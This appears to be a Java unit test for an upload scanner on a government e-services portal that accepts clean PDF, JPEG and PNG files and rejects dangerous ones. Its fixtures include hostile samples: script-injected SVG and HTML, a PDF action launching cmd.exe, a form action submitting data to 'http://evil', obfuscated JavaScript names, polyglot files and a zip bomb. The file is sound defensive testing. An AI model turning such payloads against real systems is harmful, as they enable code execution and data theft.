package vn.gov.laichau.dvc.document;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import vn.gov.laichau.dvc.shared.DomainException;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowable;
import static org.junit.jupiter.params.provider.Arguments.arguments;
import static vn.gov.laichau.dvc.document.SomeBytes.JAVASCRIPT;
import static vn.gov.laichau.dvc.document.SomeBytes.PLAIN_PAGE;
import static vn.gov.laichau.dvc.document.SomeBytes.joined;
import static vn.gov.laichau.dvc.document.SomeBytes.lockedPdf;
import static vn.gov.laichau.dvc.document.SomeBytes.pdf;
import static vn.gov.laichau.dvc.document.SomeBytes.picture;
import static vn.gov.laichau.dvc.document.SomeBytes.text;
import static vn.gov.laichau.dvc.document.SomeBytes.zip;

/** Which files are taken and which are not (Điều 5.4; quality.md V5). */
class StructuralScannerTest {

    private static final String ACTIVE = "FileUnsafe.ACTIVE_CONTENT";
    private static final String BEHIND = "FileUnsafe.SOMETHING_BEHIND";
    private static final String DAMAGED = "FileUnsafe.DAMAGED";
    private static final String LOCKED = "FileUnsafe.LOCKED";
    private static final String TYPE = "FileTypeNotAllowed";

    private final StructuralScanner scanner = new StructuralScanner();

    @TempDir
    private Path folder;

    static Stream<Arguments> good() {
        return Stream.of(
                arguments("application/pdf", "don.pdf", pdf()),
                arguments("application/pdf", "ĐƠN ĐỀ NGHỊ.PDF", pdf()),
                arguments("application/pdf", "opens-at-page.pdf", pdf("/OpenAction [3 0 R /Fit]", PLAIN_PAGE)),
                arguments("application/pdf", "link.pdf", pdf("", PLAIN_PAGE,
                        "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://laichau.gov.vn) >> >>")),
                arguments("image/jpeg", "anh.jpg", picture("jpg", 60, 40)),
                arguments("image/jpeg", "anh.JPEG", picture("jpg", 60, 40)),
                arguments("image/jpeg", "camera.jpg", joined(picture("jpg", 60, 40), new byte[20], picture("jpg", 6, 4))),
                arguments("image/png", "anh.png", picture("png", 60, 40)),
                arguments("image/png", "forty-million-points.png", picture("png", 8000, 5000)));
    }

    @ParameterizedTest(name = "{1}")
    @MethodSource("good")
    void pdfJpegAndPngAreTaken(String type, String name, byte[] content) {
        assertThat(scan(name, content)).isEqualTo(type);
    }

    static Stream<Arguments> bad() {
        var svg = text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>");
        var html = text("<!DOCTYPE html><html><script>alert(1)</script></html>");
        var exe = joined(text("MZ\u0090\0\3\0\0\0\4\0\0\0"), new byte[500], text("PE\0\0"));
        return Stream.of(
                arguments("an empty file", "a.pdf", new byte[0], TYPE),
                arguments("a program named .pdf", "a.pdf", exe, TYPE),
                arguments("a program by its name", "a.exe", exe, TYPE),
                arguments("a program behind two endings", "a.pdf.exe", pdf(), TYPE),
                arguments("a page named .jpg", "a.jpg", html, TYPE),
                arguments("a page named .pdf", "a.pdf", html, TYPE),
                arguments("a page", "a.html", html, TYPE),
                arguments("a drawing with script", "a.svg", svg, TYPE),
                arguments("a drawing with script named .png", "a.png", svg, TYPE),
                arguments("a document with macros", "a.docm", zip("word/vbaProject.bin", 100), TYPE),
                arguments("a document with macros named .pdf", "a.pdf", zip("word/vbaProject.bin", 100), TYPE),
                arguments("an archive that unpacks to 50 MB", "a.zip", zip("zeros", 50_000_000), TYPE),
                arguments("a picture that is not what its name says", "a.png", picture("jpg", 60, 40), TYPE),
                arguments("a picture of another kind", "a.gif", picture("gif", 60, 40), TYPE),
                arguments("a name without ending", "a", pdf(), TYPE),
                arguments("script before the PDF", "a.pdf", joined(text("<script>alert(1)</script>\n"), pdf()), TYPE),
                arguments("an archive before the PDF", "a.pdf", joined(zip("a", 10), pdf()), TYPE),
                arguments("an archive behind the PDF", "a.pdf", joined(pdf(), zip("a", 10)), BEHIND),
                arguments("a page behind the PDF", "a.pdf", joined(pdf(), html), BEHIND),
                arguments("an archive behind the PNG", "a.png", joined(picture("png", 60, 40), zip("a", 10)), BEHIND),
                arguments("a page behind the PNG", "a.png", joined(picture("png", 60, 40), html), BEHIND),
                arguments("an archive behind the JPEG", "a.jpg", joined(picture("jpg", 60, 40), zip("a", 10)), BEHIND),
                arguments("a page behind the JPEG", "a.jpg", joined(picture("jpg", 60, 40), html), BEHIND),
                arguments("a program behind the JPEG", "a.jpg", joined(picture("jpg", 60, 40), exe), BEHIND),
                arguments("a PDF behind the JPEG", "a.jpg", joined(picture("jpg", 60, 40), pdf()), BEHIND),
                arguments("half a JPEG", "a.jpg", Arrays.copyOf(picture("jpg", 60, 40), 625), BEHIND),
                arguments("an archive that ends like a PNG", "a.png",
                        joined(picture("png", 60, 40), zip("a", 10), text("IEND\u00aeB`\u0082")), BEHIND),
                arguments("an archive that ends like a PDF", "a.pdf",
                        joined(pdf(), zip("a", 10), text("\nstartxref\n0\n%%EOF")), BEHIND),
                arguments("too many points", "a.png", picture("png", 8000, 5001), "FileUnsafe.TOO_MANY_POINTS"),
                arguments("a PNG of nothing but its mark", "a.png", Arrays.copyOf(picture("png", 9, 9), 8), DAMAGED),
                arguments("half a PNG", "a.png", Arrays.copyOf(picture("png", 60, 40), 60), BEHIND),
                arguments("half a PDF", "a.pdf", Arrays.copyOf(pdf(), 100), DAMAGED),
                arguments("a PDF without pages", "a.pdf", text("%PDF-1.7\n%%EOF"), DAMAGED),
                arguments("a PDF of endless brackets", "a.pdf", pdf("/X " + "[".repeat(20_000), PLAIN_PAGE), DAMAGED),
                arguments("a PDF with a password", "a.pdf", lockedPdf("secret"), LOCKED),
                arguments("an encrypted PDF without a password", "a.pdf", lockedPdf(""), LOCKED),
                arguments("script on opening", "a.pdf", pdf("/OpenAction " + JAVASCRIPT, PLAIN_PAGE), ACTIVE),
                arguments("script elsewhere", "a.pdf", pdf("/OpenAction 4 0 R", PLAIN_PAGE, JAVASCRIPT), ACTIVE),
                arguments("script under a veiled name", "a.pdf",
                        pdf("/OpenAction << /S /J#61vaScript /J#53 (x) >>", PLAIN_PAGE), ACTIVE),
                arguments("script by name", "a.pdf", pdf("/Names 4 0 R", PLAIN_PAGE,
                        "<< /JavaScript << /Names [(a) 5 0 R] >> >>", JAVASCRIPT), ACTIVE),
                arguments("script of an annotation", "a.pdf", pdf("", PLAIN_PAGE,
                        "<< /Type /Annot /Subtype /Widget /A " + JAVASCRIPT + " >>"), ACTIVE),
                arguments("script by name within the catalog", "a.pdf", pdf("/Names << /JavaScript << /Names [(a) "
                        + JAVASCRIPT + "] >> >>", PLAIN_PAGE), ACTIVE),
                arguments("script on opening a page", "a.pdf", pdf("", page("/AA << /O " + JAVASCRIPT + " >>")), ACTIVE),
                arguments("script of an annotation within the page", "a.pdf",
                        pdf("", page("/Annots [<< /Subtype /Link /A " + JAVASCRIPT + " >>]")), ACTIVE),
                arguments("script behind a jump", "a.pdf", pdf("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next "
                        + JAVASCRIPT + " >>", PLAIN_PAGE), ACTIVE),
                arguments("files within the catalog", "a.pdf",
                        pdf("/Names << /EmbeddedFiles << /Names [] >> >>", PLAIN_PAGE), ACTIVE),
                arguments("a file pinned on within the page", "a.pdf",
                        pdf("", page("/Annots [<< /Subtype /FileAttachment >>]")), ACTIVE),
                arguments("an XFA form within the catalog", "a.pdf", pdf("/AcroForm << /XFA [] >>", PLAIN_PAGE), ACTIVE),
                arguments("starting a program", "a.pdf",
                        pdf("/OpenAction << /S /Launch /F (cmd.exe) >>", PLAIN_PAGE), ACTIVE),
                arguments("sending data away", "a.pdf",
                        pdf("/OpenAction << /S /SubmitForm /F (http://evil) >>", PLAIN_PAGE), ACTIVE),
                arguments("files within", "a.pdf",
                        pdf("/Names 4 0 R", PLAIN_PAGE, "<< /EmbeddedFiles << /Names [] >> >>"), ACTIVE),
                arguments("a file pinned on", "a.pdf",
                        pdf("", PLAIN_PAGE, "<< /Type /Annot /Subtype /FileAttachment >>"), ACTIVE),
                arguments("an XFA form", "a.pdf", pdf("/AcroForm 4 0 R", PLAIN_PAGE, "<< /XFA [] >>"), ACTIVE),
                arguments("rich media", "a.pdf", pdf("", PLAIN_PAGE, "<< /Type /Annot /Subtype /RichMedia >>"), ACTIVE));
    }

    @ParameterizedTest(name = "{0}: {3}")
    @MethodSource("bad")
    void everythingElseIsRefusedByName(String what, String name, byte[] content, String rule) {
        assertThatThrownBy(() -> scan(name, content)).as(what).isInstanceOfSatisfying(DomainException.class,
                refused -> assertThat(refused.messageKey()).isEqualTo(rule));
    }

    /** The scanner says yes or names a rule; it never breaks down. */
    @Test
    void filesCutAnywhereNeverBreakTheScanner() {
        var whole = Stream.of(pdf(), picture("png", 9, 9), picture("jpg", 9, 9)).toList();
        var names = Stream.of("a.pdf", "a.png", "a.jpg").toList();

        assertThat(IntStream.range(0, 3).boxed().flatMap(i -> IntStream.range(0, whole.get(i).length)
                .mapToObj(length -> catchThrowable(() -> scan(names.get(i), Arrays.copyOf(whole.get(i), length))))))
                .allSatisfy(thrown -> assertThat(thrown == null || thrown instanceof DomainException).isTrue());
    }

    private static String page(String entries) {
        return "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] " + entries + " >>";
    }

    private String scan(String name, byte[] content) {
        var file = folder.resolve("dvc.upload");
        try {
            Files.write(file, content);
        } catch (IOException e) {
            throw new AssertionError(e);
        }
        return scanner.scan(file, name);
    }
}
